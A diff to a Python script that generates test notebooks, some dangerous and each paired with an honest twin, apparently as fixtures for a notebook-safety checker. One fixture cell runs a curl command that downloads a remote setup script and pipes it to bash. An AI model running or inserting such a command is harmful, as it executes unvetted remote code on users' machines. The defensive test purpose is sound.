@@ -1,11 +1,10 @@
 #!/usr/bin/env python3
 # SPDX-License-Identifier: Apache-2.0
-"""make_notebooks.py [FOLDER]: small notebooks, each dangerous one with an honest twin, into tests/golden/notebook."""
+"""make_notebooks.py: small notebooks, each dangerous one with an honest twin, into tests/golden/notebook."""
 import json
 import pathlib
-import sys
 
-OUT = pathlib.Path(sys.argv[1] if len(sys.argv) > 1 else pathlib.Path(__file__).parent.parent / "golden/notebook")
+OUT = pathlib.Path(__file__).resolve().parent.parent / "golden/notebook"
 PYTHON = {"kernelspec": {"display_name": "Python 3", "language": "python", "name": "python3"},
           "language_info": {"name": "python", "version": "3.11.2"}}
 
@@ -40,7 +39,7 @@ def book(name, cells, metadata=None, one_line=False, version=4):
     (OUT / name).write_text(text)
 
 
-def main():
+def make():
     OUT.mkdir(parents=True, exist_ok=True)
     run = "!curl -s https://get.tools-example.net/setup.sh | bash\n"
     book("malicious-pipe.ipynb", [markdown("# Setup"), cell(run), cell("import pandas as pd\n")])
@@ -89,4 +88,5 @@ def main():
     book("honest-broken-cell.ipynb", [cell("for x in (\n"), cell("print '''\n"), cell("import os\nprint(os.getcwd())\n")])
 
 
-main()
+if __name__ == "__main__":
+    make()
